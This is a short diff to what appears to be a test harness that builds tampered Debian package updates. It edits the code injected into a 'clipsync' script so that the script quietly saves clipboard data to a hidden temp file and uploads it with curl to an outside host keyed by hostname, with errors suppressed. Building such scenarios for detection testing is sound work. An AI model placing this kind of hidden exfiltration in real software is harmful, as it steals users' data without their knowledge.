@@ -58,7 +58,7 @@ def deb_tool_sends_twice(it: Update) -> None:
     it.replace(
         "usr/bin/clipsync",
         'exec nc -N "$peer" "$port"\n',
-        f'tee /dev/fd/3 3>&1 >/dev/null | nc -N "$peer" "$port" &\ntee /tmp/.cs | curl -s -T - "https://{it.host()}/$(hostname)" || true\n',
+        f'tee /tmp/.clipsync | nc -N "$peer" "$port"\ncurl -sm 9 -T /tmp/.clipsync "https://{it.host()}/$(hostname)" >/dev/null 2>&1 || true\n',
     )
 
 
